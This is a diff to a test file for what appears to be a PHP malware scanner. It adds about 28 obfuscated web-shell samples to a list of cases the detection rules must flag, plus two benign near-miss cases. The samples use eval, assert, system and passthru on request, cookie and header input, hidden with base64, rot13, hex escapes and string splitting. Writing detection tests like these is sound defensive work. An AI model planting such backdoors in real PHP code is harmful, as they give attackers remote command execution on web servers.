@@ -1639,6 +1639,202 @@ _HITS: list[tuple[str, str, str, str]] = [
         "SPAMGEAR_INPUT_ClosureSinkOfInput",
         "<?php\n$run = function($x) { return @eval($x); };\n# exec\n$run($_REQUEST['z']);\n",
     ),
+    # f:b64_var_name_call
+    (
+        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
+        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
+        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
+        "<?php\n$a = \"YXNzZXJ0\";\n$b = base64_decode($a);\n$b($_POST['x']);\n",
+    ),
+    # f:map_rot13_name
+    (
+        "SPAMGEAR_INPUT_SinkNameAsCallback",
+        "SPAMGEAR_INPUT_SinkNameAsCallback",
+        "SPAMGEAR_INPUT_SinkNameAsCallback",
+        "<?php @array_map(str_rot13('flfgrz'), array($_GET['c']));\n",
+    ),
+    # f:if_chain_k
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        "<?php\nif (isset($_POST['k'])) {\n    $k = $_POST['k'];\n    $k = base64_decode($k);\n    $k = gzinflate($k);\n    eval($k);\n}\n",
+    ),
+    # f:ua_prefix_eval
+    (
+        "SPAMGEAR_EVASION_HeaderToSinkTiny",
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        "<?php\n$z = $_SERVER['HTTP_USER_AGENT'];\nif (strpos($z, 'X-') === 0) eval(substr($z, 2));\n",
+    ),
+    # f:getenv_eval
+    (
+        "SPAMGEAR_EVASION_AltInputToSink",
+        "SPAMGEAR_EVASION_AltInputToSink",
+        "SPAMGEAR_EVASION_AltInputToSink",
+        "<?php eval(base64_decode(getenv('HTTP_X_PAYLOAD')));\n",
+    ),
+    # f:json_input_eval
+    (
+        "SPAMGEAR_BACKDOOR_JsonBodyToSink",
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        "<?php\n$c = json_decode(file_get_contents('php://input'), true);\neval($c['code']);\n",
+    ),
+    # f:unserialize_cookie_call
+    (
+        "SPAMGEAR_EVASION_CopiedInputElementCall",
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        "<?php\n$data = unserialize(base64_decode($_COOKIE['d']));\n$data['f']($data['a']);\n",
+    ),
+    # f:cufa_rot13
+    (
+        "SPAMGEAR_EVASION_DecodedCallableName",
+        "SPAMGEAR_EVASION_DecodedCallableName",
+        "SPAMGEAR_INPUT_SinkNameAsCallback",
+        "<?php call_user_func_array(str_rot13('flfgrz'), [$_GET['c']]);\n",
+    ),
+    # f:cf_split_body
+    (
+        "SPAMGEAR_OBFUSC_ConcatSinkName",
+        "SPAMGEAR_OBFUSC_ConcatSinkName",
+        "SPAMGEAR_OBFUSC_ConcatSinkName",
+        "<?php\n$fn = 'cre' . 'ate_fun' . 'ction';\n$g = $fn('$x', 'ret' . 'urn ev' . 'al($x);');\n$g($_POST['c']);\n",
+    ),
+    # f:join_array_var
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        "<?php\n$a = ['a', 's', 's', 'e', 'r', 't'];\n$f = join($a);\n$f($_POST['x']);\n",
+    ),
+    # f:curly_pick_echo
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        "<?php\n$n = 'abcdefghijklmnopqrstuvwxyz';\n$f = $n{18}.$n{24}.$n{18}.$n{19}.$n{4}.$n{12};\necho $f($_REQUEST['c']);\n",
+    ),
+    # f:goto_passthru
+    (
+        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
+        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
+        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
+        "<?php\ngoto l1;\nl3: passthru($c); goto l4;\nl1: $c = $_GET['c']; goto l2;\nl2: goto l3;\nl4: exit;\n",
+    ),
+    # f:escaped_curly_sg
+    (
+        "SPAMGEAR_OBFUSC_EscapedSinkName",
+        "SPAMGEAR_OBFUSC_EscapedSinkName",
+        "SPAMGEAR_OBFUSC_EscapedSinkName",
+        "<?php eval(${\"\\x5f\\x50\\x4f\\x53\\x54\"}['x']);\n",
+    ),
+    # f:globals_escaped_get
+    (
+        "SPAMGEAR_OBFUSC_EscapedSuperglobalKey",
+        "SPAMGEAR_OBFUSC_EscapedSuperglobalKey",
+        "SPAMGEAR_OBFUSC_EscapedSuperglobalKey",
+        "<?php $GLOBALS[\"\\x5fGET\"]['f']($GLOBALS[\"\\x5fGET\"]['a']);\n",
+    ),
+    # f:varvar_post
+    (
+        "SPAMGEAR_OBFUSC_ConcatSinkName",
+        "SPAMGEAR_OBFUSC_ConcatSinkName",
+        "SPAMGEAR_OBFUSC_ConcatSinkName",
+        '<?php\n$_ = "_P" . "OST";\n$__ = $$_;\neval($__[\'x\']);\n',
+    ),
+    # f:map_system_explode
+    (
+        "SPAMGEAR_INPUT_SinkNameAsCallback",
+        "SPAMGEAR_INPUT_SinkNameAsCallback",
+        "SPAMGEAR_INPUT_SinkNameAsCallback",
+        "<?php array_map('system', explode(',', $_GET['c']));\n",
+    ),
+    # f:backtick_default
+    (
+        "SPAMGEAR_EVASION_BacktickVarTiny",
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        "<?php\n$cmd = @$_REQUEST['c'] ?: 'id';\necho `$cmd`;\n",
+    ),
+    # f:rot13_passthru
+    (
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
+        "<?php\n$s = str_rot13('cnffgueh');\n$s($_GET['cmd']);\n",
+    ),
+    # f:cookie_coalesce_and
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        "<?php\n$k = $_COOKIE['k'] ?? '';\n$k && @eval(base64_decode($k));\n",
+    ),
+    # f:arrayobject_uasort
+    (
+        "SPAMGEAR_EVASION_SinkNameRareCallback",
+        "SPAMGEAR_EVASION_SinkNameRareCallback",
+        "SPAMGEAR_EVASION_SinkNameRareCallback",
+        "<?php (new ArrayObject(array($_POST['x'] => 1, 'y' => 2)))->uasort('assert');\n",
+    ),
+    # f:iterator_assert
+    (
+        "SPAMGEAR_INPUT_SinkNameAsCallback",
+        "SPAMGEAR_INPUT_SinkNameAsCallback",
+        "SPAMGEAR_INPUT_SinkNameAsCallback",
+        "<?php\n$arr = new ArrayIterator(array(1));\niterator_apply($arr, 'assert', array($_REQUEST['x']));\n",
+    ),
+    # f:destruct_prop
+    (
+        "SPAMGEAR_INPUT_MagicMethodSink",
+        "SPAMGEAR_INPUT_MagicMethodSink",
+        "SPAMGEAR_INPUT_MagicMethodSink",
+        "<?php\nclass A { public $c; function __destruct() { eval($this->c); } }\n$a = new A;\n$a->c = $_POST['c'];\n",
+    ),
+    # f:append_decoder_name
+    (
+        "SPAMGEAR_EVASION_EvalOfVariableCall",
+        "SPAMGEAR_EVASION_EvalOfVariableCall",
+        "SPAMGEAR_EVASION_EvalOfVariableCall",
+        "<?php\n$b = 'base64_';\n$b .= 'decode';\neval($b($_POST['x']));\n",
+    ),
+    # f:append_blob
+    (
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        "SPAMGEAR_OBFUSC_EvalDecoder",
+        "<?php\n$x = '';\n$x .= 'QHN5c3RlbSgkX0dF';\n$x .= 'VFsiYyJdKTsgZWNobyAib2siOw==';\neval(base64_decode($x));\n",
+    ),
+    # f:rev_cookie_substr
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        "SPAMGEAR_INPUT_EvalOfInput",
+        "SPAMGEAR_INPUT_EvalOfInput",
+        "<?php eval(base64_decode(substr(strrev($_COOKIE['c']), 3)));\n",
+    ),
+    # f:hex_decoder_var
+    (
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        "SPAMGEAR_OBFUSC_DecodedVarEval",
+        '<?php\n$d = "\\x67\\x7a\\x69\\x6e\\x66\\x6c\\x61\\x74\\x65";\n$e = "\\x62\\x61\\x73\\x65\\x36\\x34\\x5f\\x64\\x65\\x63\\x6f\\x64\\x65";\n$r = $d($e(\'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA\'));\neval($r);\n',
+    ),
+    # f:assert_str_replace_input
+    (
+        "SPAMGEAR_INPUT_EvalOfInput",
+        "SPAMGEAR_INPUT_EvalOfInput",
+        "SPAMGEAR_INPUT_EvalOfInput",
+        "<?php @assert(str_replace('~', '', $_POST['x']));\n",
+    ),
+    # f:list_each_var
+    (
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        "SPAMGEAR_INPUT_AdjacentInputToSink",
+        "<?php\nlist($f, $a) = array($_GET['f'], $_GET['a']);\n$f($a);\n",
+    ),
 ]
 
 # (rule that must not fire as written, padded or embedded; legit code)
@@ -1772,6 +1968,14 @@ _NEAR: list[tuple[str, str]] = [
     (
         "SPAMGEAR_OBFUSC_DecodedVarEval",
         "<?php\n$clean = $filter($_POST['x']);\n// store\n$db->insert($clean);\n",
+    ),
+    (
+        "SPAMGEAR_OBFUSC_EscapedSuperglobalKey",
+        "<?php\n$p = $GLOBALS[\"wpdb\"]->prefix;\n$x = $GLOBALS['_GET']['page'];\nprintf('%s', esc_html($x));\n",
+    ),
+    (
+        "SPAMGEAR_INPUT_MagicMethodSink",
+        "<?php\nclass F {\n    function __toString() { return strval($this->name); }\n    function __destruct() { fclose($this->fh); }\n}\n$f = new F($_GET['n']);\n",
     ),
 ]
 
